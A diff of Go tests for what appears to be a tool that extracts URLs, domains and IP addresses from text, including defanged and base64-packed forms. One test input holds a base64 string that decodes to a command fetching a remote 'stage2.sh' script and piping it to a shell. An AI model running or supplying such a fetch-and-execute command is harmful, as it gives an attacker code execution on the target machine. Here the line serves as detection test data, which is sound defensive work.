@@ -28,6 +28,7 @@ func TestOutput(t *testing.T) {
 	code, out, notes := runs(t, "nothing here\nGET hxxp://evil[.]com/x from 203.0.113.9 and 203.0.113.9\n")
 	assert.Equal(t, 0, code)
 	assert.Empty(t, notes)
+	//nolint:testifylint // JSON Lines, and the bytes are the contract
 	assert.Equal(t, `{"line":2,"type":"url","value":"http://evil.com/x","raw":"hxxp://evil[.]com/x","start":4,"end":23,"defanged":true}
 {"line":2,"type":"dns","value":"evil.com","raw":"evil[.]com","start":11,"end":21,"defanged":true}
 {"line":2,"type":"ipv4","value":"203.0.113.9","raw":"203.0.113.9","start":29,"end":40,"defanged":false}
@@ -119,11 +120,12 @@ func TestOrder(t *testing.T) {
 	runtime.GOMAXPROCS(4)
 	_, got, _ := runs(t, in.String())
 	assert.Equal(t, 60_000, strings.Count(want, "\n"))
-	assert.True(t, want == got, "the same bytes at any GOMAXPROCS")
+	assert.Equal(t, want, got, "the same bytes at any GOMAXPROCS")
 }
 
 func TestUnpack(t *testing.T) {
 	_, out, _ := runs(t, "a 10.0.0.1\necho Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3N0YWdlMi5zaCB8IHNoCg== | base64 -d\n", "-unpack", "-types", "url,ipv4")
+	//nolint:testifylint // JSON Lines, and the bytes are the contract
 	assert.Equal(t, `{"line":1,"type":"ipv4","value":"10.0.0.1","raw":"10.0.0.1","start":2,"end":10,"defanged":false}
 {"line":2,"type":"url","value":"http://203.0.113.99/stage2.sh","raw":"http://203.0.113.99/stage2.sh","start":5,"end":65,"defanged":false,"unpacked":["base64"]}
 {"line":2,"type":"ipv4","value":"203.0.113.99","raw":"203.0.113.99","start":5,"end":65,"defanged":false,"unpacked":["base64"]}
